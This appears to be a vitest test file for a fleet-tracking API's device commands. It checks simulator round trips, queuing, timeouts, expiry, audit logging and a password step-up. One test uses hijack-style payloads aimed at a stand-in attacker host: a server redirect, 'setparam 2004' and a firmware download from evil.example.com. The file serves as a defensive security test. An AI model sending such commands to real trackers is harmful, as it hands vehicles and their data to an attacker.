import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { deviceCommandSchema, supportedCommandsSchema, verifiedCommandTypes } from '@fleet/api-client';
import { createSocket } from 'node:dgram';
import {
  encodeGoSafeCommandResponse,
  encodeGoSafeText,
  encodeRuptelaCommandResponse,
  encodeRuptelaIdentification,
  encodeRuptelaServerFrame,
  encodeTeltonikaImei,
} from '@fleet/device-protocols';
import { CommandService } from './service';
import { call, createHarness, PASSWORD, type Harness } from '../../test/harness';
import { buildWorld, type World } from '../../test/fixtures';
import { startGateway, type Gateway } from '../gateway/gateway';
import { startSimulatedFleet, simulatedImei, type SimulatedFleet } from '../simulator/fleet';
import { addDevices, hubClient, RawClient, waitFor, type FleetFixture } from '../gateway/test-helpers';

let h: Harness;
let w: World;
let gw: Gateway | undefined;
let fleet: SimulatedFleet | undefined;
let fx: FleetFixture;

beforeAll(async () => {
  h = await createHarness('commands', {
    GATEWAY_HOST: '127.0.0.1',
    GATEWAY_TELTONIKA_PORT: '0',
    GATEWAY_RUPTELA_PORT: '0',
    GATEWAY_GOSAFE_PORT: '0',
    GATEWAY_ISTARTEK_PORT: '0',
    GATEWAY_OSMAND_PORT: 'off',
    GATEWAY_UDP: 'off',
    COMMAND_TIMEOUT_S: '1',
  });
});
afterAll(() => h.close());
beforeEach(async () => {
  // The API stamps commands with the harness clock and the gateway expires queued ones by the real
  // clock (one clock in production): keep them together, or a command created "yesterday" by a fixed
  // harness date is already past the 24 h expiry when the gateway looks at it.
  h.clock.now = new Date();
  await h.reset();
  w = await buildWorld(h.storage.db);
  fx = await addDevices(h.storage.db, w.a.id, [
    { imei: simulatedImei(101), type: 'teltonika' },
    { imei: simulatedImei(102), type: 'ruptela' },
    { imei: simulatedImei(103), type: 'istartek' },
    { imei: simulatedImei(104), type: 'door_technologies' },
  ]);
  gw = await startGateway({ config: h.config, storage: h.storage, bus: h.bus });
});
afterEach(async () => {
  fleet?.stop();
  fleet = undefined;
  await gw?.close();
  gw = undefined;
});

const admin = () => ({ token: w.users.adminA.token, company: w.a.uuid });
/** Password step-up token of `who` (POST /v1/verify-password). */
async function stepUp(who = admin()): Promise<string> {
  const v = await call(h.app, {
    method: 'POST',
    url: '/v1/verify-password',
    body: { password: PASSWORD },
    ...who,
  });
  return v.json().data.verification_token as string;
}
/**
 * Send a command; a step-up command (verifiedCommandTypes) gets a fresh verification token unless the
 * body names `verification_token` itself (even as undefined, to send none).
 */
const send = async (deviceUuid: string, body: unknown, who = admin()) => {
  const b = body as { type?: string; verification_token?: string };
  const withToken =
    b &&
    typeof b === 'object' &&
    !('verification_token' in b) &&
    verifiedCommandTypes.includes(b.type as never)
      ? { ...b, verification_token: await stepUp(who) }
      : body;
  return call(h.app, { method: 'POST', url: `/v1/devices/${deviceUuid}/commands`, body: withToken, ...who });
};
const history = (deviceUuid: string, who = admin()) =>
  call(h.app, { method: 'GET', url: `/v1/devices/${deviceUuid}/commands`, ...who });

function simulate(indexes: number[]) {
  fleet = startSimulatedFleet({
    devices: indexes.map((i) => ({
      imei: fx.devices[i]!.imei,
      protocol: fx.devices[i]!.type as 'teltonika',
    })),
    ports: { teltonika: gw!.ports.teltonika!, ruptela: gw!.ports.ruptela!, istartek: gw!.ports.istartek! },
    intervalMs: 200,
    clock: 'virtual',
    stagger: false,
  });
  return fleet;
}

describe('device commands', () => {
  it('lists what each device type supports', async () => {
    const r = await call(h.app, {
      method: 'GET',
      url: '/v1/device/commands/supported',
      token: w.users.adminA.token,
    });
    expect(r.statusCode).toBe(200);
    const data = supportedCommandsSchema.parse(r.json().data.data);
    expect(data.teltonika).toContain('get_version');
    expect(data.teltonika).toContain('immobilize');
    expect(data.door_technologies).toEqual([]);
  });

  it.each([
    [0, 'teltonika', 'get_version', /Ver:/],
    [1, 'ruptela', 'get_version', /Ver:/],
    [2, 'istartek', 'output1_on', /OK/],
  ] as const)(
    'round-trips %s (%s %s) through the simulator: history + command-response',
    async (i, _type, type, answer) => {
      const dev = fx.devices[i]!;
      const ws = hubClient(h.app.ctx.hub, {
        userId: w.users.adminA.id,
        userUuid: w.users.adminA.uuid,
        companyId: w.a.id,
        companyUuid: w.a.uuid,
      });
      simulate([i]);
      await waitFor(() => gw!.isConnected(dev.uuid), 10_000, 'device connected');
      const r = await send(dev.uuid, { type });
      expect(r.statusCode).toBe(201);
      const created = deviceCommandSchema.parse(r.json().data);
      expect(created.device_uuid).toBe(dev.uuid);
      expect(created.issued_by?.uuid).toBe(w.users.adminA.uuid);
      const ev = await waitFor(
        () => ws.messages.find((m) => m.event === 'command-response' && m.data['uuid'] === created.uuid),
        10_000,
        'command-response',
      );
      expect(ev.path).toBe(dev.uuid);
      expect(ev.data['status']).toBe('answered');
      expect(String(ev.data['response'])).toMatch(answer);
      const list = await history(dev.uuid);
      expect(list.statusCode).toBe(200);
      const [row] = list.json().data as { status: string; response: string; answered_at: string }[];
      expect(row!.status).toBe('answered');
      expect(row!.response).toMatch(answer);
      expect(row!.answered_at).not.toBeNull();
      ws.off();
    },
  );

  it('queues a command for an offline device and sends it when it connects', async () => {
    const dev = fx.devices[0]!;
    const r = await send(dev.uuid, { type: 'get_status' });
    expect(r.json().data.status).toBe('queued');
    simulate([0]);
    await waitFor(
      async () => (await history(dev.uuid)).json().data[0].status === 'answered',
      10_000,
      'queued command answered',
    );
    expect((await history(dev.uuid)).json().data[0].response).toMatch(/GPRS: 1/);
  });

  it('times out visibly when the device does not answer', async () => {
    const dev = fx.devices[0]!;
    const ws = hubClient(h.app.ctx.hub, {
      userId: w.users.adminA.id,
      userUuid: w.users.adminA.uuid,
      companyId: w.a.id,
      companyUuid: w.a.uuid,
    });
    // A hand-made device that connects and never answers.
    const c = new RawClient(gw!.ports.teltonika!);
    await c.send(encodeTeltonikaImei(dev.imei));
    await c.take(1);
    await waitFor(() => gw!.isConnected(dev.uuid), 5000, 'connected');
    const r = await send(dev.uuid, { type: 'get_gps' });
    const uuid = r.json().data.uuid as string;
    const ev = await waitFor(
      () => ws.messages.find((m) => m.event === 'command-response' && m.data['uuid'] === uuid),
      5000,
      'timeout event',
    );
    expect(ev.data['status']).toBe('timed_out');
    expect(String(ev.data['error'])).toMatch(/No answer/);
    const bytes = c.received; // the Codec 12 frame the device got
    expect(bytes.includes(Buffer.from('getgps'))).toBe(true);
    c.close();
    ws.off();
  });

  it('issue 18 finding 5: every hand-over, wipe or disable command needs the password step-up', async () => {
    const dev = fx.devices[0]!; // teltonika
    const attrs: Record<string, Record<string, unknown>> = {
      change_ip_port: { host: 'evil.example.com', port: 5027 },
      custom: { text: 'setparam 2004:evil.example.com' },
      fota_web: { url: 'https://evil.example.com/fw.bin' },
    };
    expect([...verifiedCommandTypes].sort()).toEqual(
      [
        'change_ip_port',
        'custom',
        'delete_records',
        'format_sd',
        'fota_web',
        'immobilize',
        'output1_off',
        'output1_on',
        'output2_off',
        'output2_on',
        'reset',
        'unimmobilize',
      ].sort(),
    );
    const count = async () =>
      (await h.storage.db.query<{ n: number }>('SELECT count(*)::int AS n FROM device_commands'))[0]!.n;
    const before = await count();
    for (const type of verifiedCommandTypes) {
      const body = { type, attributes: attrs[type] ?? {} };
      const none = await send(dev.uuid, { ...body, verification_token: undefined });
      expect(none.statusCode, type).toBe(422);
      expect(none.json().errors.verification_token, type).toBeDefined();
      const bad = await send(dev.uuid, { ...body, verification_token: 'not-a-token-at-all' });
      // 403 when the device type carries the command; 422 on `type` when it cannot carry it at all.
      expect([403, 422], type).toContain(bad.statusCode);
      if (bad.statusCode === 422) expect(bad.json().errors.type, type).toBeDefined();
    }
    expect(await count()).toBe(before);
    // With a fresh token the takeover-class command is accepted (and the token is spent).
    const ok = await send(dev.uuid, { type: 'change_ip_port', attributes: attrs.change_ip_port });
    expect(ok.statusCode).toBe(201);
    const doc = await call(h.app, { method: 'GET', url: '/v1/openapi.json' });
    expect(doc.body).toContain('password step-up, verification_token, for: change_ip_port, custom, fota_web');
  });

  it('immobilize needs a password verification token; unsupported commands and other companies are refused', async () => {
    const dev = fx.devices[0]!;
    const noToken = await send(dev.uuid, { type: 'immobilize', verification_token: undefined });
    expect(noToken.statusCode).toBe(422);
    const badToken = await send(dev.uuid, { type: 'immobilize', verification_token: 'nope' });
    expect(badToken.statusCode).toBe(403);
    const v = await call(h.app, {
      method: 'POST',
      url: '/v1/verify-password',
      body: { password: PASSWORD },
      ...admin(),
    });
    expect(v.statusCode).toBe(200);
    const token = v.json().data.verification_token as string;
    const ok = await send(dev.uuid, { type: 'immobilize', verification_token: token });
    expect(ok.statusCode).toBe(201);
    // A token works once.
    expect((await send(dev.uuid, { type: 'immobilize', verification_token: token })).statusCode).toBe(403);
    // door_technologies devices take no command.
    expect((await send(fx.devices[3]!.uuid, { type: 'get_version' })).statusCode).toBe(422);
    // Bad attributes.
    expect(
      (await send(dev.uuid, { type: 'change_ip_port', attributes: { host: 'x', port: 99999 } })).statusCode,
    ).toBe(422);
    // Company B cannot see company A's device.
    const other = { token: w.users.adminB.token, company: w.b.uuid };
    expect((await send(dev.uuid, { type: 'get_version' }, other)).statusCode).toBe(404);
    expect((await history(dev.uuid, other)).statusCode).toBe(404);
  });

  it('each command sent is in the activity log (who, device, command), never a secret; refused ones are not', async () => {
    const dev = fx.devices[0]!;
    const v = await call(h.app, {
      method: 'POST',
      url: '/v1/verify-password',
      body: { password: PASSWORD },
      ...admin(),
    });
    const verification = v.json().data.verification_token as string;
    const secret = 'setparam 2003:S3cretApnPass';
    const sent = [
      await send(dev.uuid, { type: 'immobilize', verification_token: verification }),
      await send(dev.uuid, { type: 'custom', attributes: { text: secret } }),
      await send(dev.uuid, { type: 'change_ip_port', attributes: { host: 'gw.example.com', port: 5027 } }),
    ];
    for (const r of sent) expect(r.statusCode, r.body).toBe(201);
    // Refused: bad attributes, spent token, another company.
    await send(dev.uuid, { type: 'change_ip_port', attributes: { host: 'x', port: 99999 } });
    await send(dev.uuid, { type: 'immobilize', verification_token: verification });
    await send(dev.uuid, { type: 'get_version' }, { token: w.users.adminB.token, company: w.b.uuid });

    const log = await call(h.app, {
      method: 'GET',
      url: `/v1/activity-log?action=command_sent&subject_uuid=${dev.uuid}&order=asc&limit=100`,
      ...admin(),
    });
    expect(log.statusCode, log.body).toBe(200);
    const entries = log.json().data as Record<string, unknown>[];
    expect(entries).toHaveLength(3);
    const who = expect.objectContaining({ uuid: w.users.adminA.uuid });
    const common = { action: 'command_sent', subject_type: 'device', subject_uuid: dev.uuid, user: who };
    expect(entries).toEqual([
      expect.objectContaining({
        ...common,
        after: {
          command_uuid: sent[0]!.json().data.uuid,
          command: 'immobilize',
          device_imei: dev.imei,
          attributes: {},
        },
      }),
      expect.objectContaining({
        ...common,
        after: expect.objectContaining({ command: 'custom', attributes: { text_length: secret.length } }),
      }),
      expect.objectContaining({
        ...common,
        after: expect.objectContaining({
          command: 'change_ip_port',
          attributes: { host: 'gw.example.com', port: 5027 },
        }),
      }),
    ]);
    expect(log.body).not.toContain('S3cretApnPass');
    expect(log.body).not.toContain(verification);
    // Company B sees none of it.
    const b = await call(h.app, {
      method: 'GET',
      url: '/v1/activity-log?action=command_sent',
      token: w.users.adminB.token,
      company: w.b.uuid,
    });
    expect(b.json().data).toEqual([]);
  });

  it('an answer goes to the oldest command expecting that kind of answer (Ruptela command ids)', async () => {
    // This test's own gateway, with a time-out long enough for a loaded machine.
    await gw!.close();
    gw = await startGateway({
      config: { ...h.config, COMMAND_TIMEOUT_S: 120 },
      storage: h.storage,
      bus: h.bus,
    });
    const dev = fx.devices[1]!;
    const c = new RawClient(gw.ports.ruptela!);
    await c.send(encodeRuptelaIdentification(dev.imei));
    await c.take(6); // identification ACK
    await waitFor(() => gw!.isConnected(dev.uuid), 5000, 'connected');
    // First a raw "device version" request (command 103, answered by command 3), then an SMS command
    // (108, answered by command 7).
    const versionFrame = Buffer.from(encodeRuptelaServerFrame(103, new Uint8Array(0))).toString('hex');
    const first = await send(dev.uuid, { type: 'custom', attributes: { text: versionFrame } });
    expect(first.statusCode).toBe(201);
    const second = await send(dev.uuid, { type: 'get_gps' });
    expect(second.statusCode).toBe(201);
    const statusOf = async (uuid: string) =>
      (
        (await history(dev.uuid)).json().data as { uuid: string; status: string; response: string | null }[]
      ).find((x) => x.uuid === uuid)!;
    await waitFor(async () => (await statusOf(second.json().data.uuid)).status === 'sent', 5000, 'both sent');
    await waitFor(async () => (await statusOf(first.json().data.uuid)).status === 'sent', 5000, 'both sent');
    // The device answers the SMS command: it must not be taken by the older version request.
    await c.send(encodeRuptelaCommandResponse(dev.imei, 'Lat:25.2 Lon:55.27'));
    await waitFor(
      async () => (await statusOf(second.json().data.uuid)).status === 'answered',
      5000,
      'SMS command answered',
    );
    expect((await statusOf(second.json().data.uuid)).response).toBe('Lat:25.2 Lon:55.27');
    expect((await statusOf(first.json().data.uuid)).status).toBe('sent');
    c.close();
  });

  it('a GoSafe answer that arrives in a UDP datagram is stored with its command', async () => {
    // This test's own gateway: UDP on (GoSafe listens for datagrams on its TCP port number).
    await gw!.close();
    gw = await startGateway({
      config: { ...h.config, GATEWAY_UDP: true, COMMAND_TIMEOUT_S: 120 },
      storage: h.storage,
      bus: h.bus,
    });
    const [dev] = (await addDevices(h.storage.db, w.a.id, [{ imei: simulatedImei(105), type: 'gosafe' }]))
      .devices;
    // The device holds a TCP session (a bare `*GS06,<imei>#` names it), takes the command there ...
    const c = new RawClient(gw.ports.gosafe!);
    await c.send(encodeGoSafeText(dev!.imei, []));
    await waitFor(() => gw!.isConnected(dev!.uuid), 5000, 'connected');
    const sent = await send(dev!.uuid, { type: 'custom', attributes: { text: 'STATUS' } });
    expect(sent.statusCode).toBe(201);
    await c.take(1);
    // ... and answers in a datagram.
    const udp = createSocket('udp4');
    try {
      const answer = encodeGoSafeCommandResponse(dev!.imei, 'GPS OK');
      await new Promise<void>((resolve, reject) =>
        udp.send(answer, gw!.ports.gosafeUdp!, '127.0.0.1', (err) => (err ? reject(err) : resolve())),
      );
      await waitFor(
        async () =>
          ((await history(dev!.uuid)).json().data as { status: string; response: string | null }[]).some(
            (x) => x.status === 'answered' && x.response === 'GPS OK',
          ),
        5000,
        'answered over UDP',
      );
    } finally {
      udp.close();
      c.close();
    }
  });

  it('a command queued for a device that stays offline expires, is published, and is never sent', async () => {
    const dev = fx.devices[0]!;
    const ws = hubClient(h.app.ctx.hub, {
      userId: w.users.adminA.id,
      userUuid: w.users.adminA.uuid,
      companyId: w.a.id,
      companyUuid: w.a.uuid,
    });
    const r = await send(dev.uuid, { type: 'get_status' });
    const uuid = r.json().data.uuid as string;
    expect(r.json().data.status).toBe('queued');
    // A service whose clock is 25 hours ahead: the default expiry (24 h) has passed.
    const later = new CommandService({
      db: h.storage.db,
      bus: h.bus,
      timeoutMs: 60_000,
      now: () => new Date(Date.now() + 25 * 3600_000),
    });
    expect(later.queueExpiryMs).toBe(24 * 3600_000);
    let wrote = 0;
    const link = { deviceId: dev.id, write: () => (wrote++, true) };
    expect(await later.dispatch(link)).toBe(0); // not sent, even before the sweep ran
    expect(await later.expireQueued()).toBe(1);
    expect(await later.expireQueued()).toBe(0);
    const row = deviceCommandSchema.parse((await history(dev.uuid)).json().data[0]);
    expect(row.status).toBe('expired');
    expect(row.error).toMatch(/did not connect within 24 h/);
    expect(row.sent_at).toBeNull();
    const ev = await waitFor(
      () => ws.messages.find((m) => m.event === 'command-response' && m.data['uuid'] === uuid),
      5000,
      'expired event',
    );
    expect(ev.data['status']).toBe('expired');
    // The device connects: nothing is written to it.
    expect(await later.dispatch(link)).toBe(0);
    expect(wrote).toBe(0);
    const listed = await call(h.app, {
      method: 'GET',
      url: `/v1/devices/${dev.uuid}/commands?status=expired`,
      ...admin(),
    });
    expect(listed.statusCode).toBe(200);
    expect((listed.json().data as unknown[]).length).toBe(1);
    later.close();
    ws.off();
  });

  it('the gateway expires queued commands by itself (COMMAND_QUEUE_EXPIRY_S)', async () => {
    await gw!.close();
    gw = await startGateway({
      config: { ...h.config, COMMAND_QUEUE_EXPIRY_S: 1 },
      storage: h.storage,
      bus: h.bus,
    });
    const dev = fx.devices[2]!;
    const r = await send(dev.uuid, { type: 'output1_off' });
    expect(r.json().data.status).toBe('queued');
    await waitFor(
      async () => (await history(dev.uuid)).json().data[0].status === 'expired',
      10_000,
      'expired by the gateway sweep',
    );
  });
});
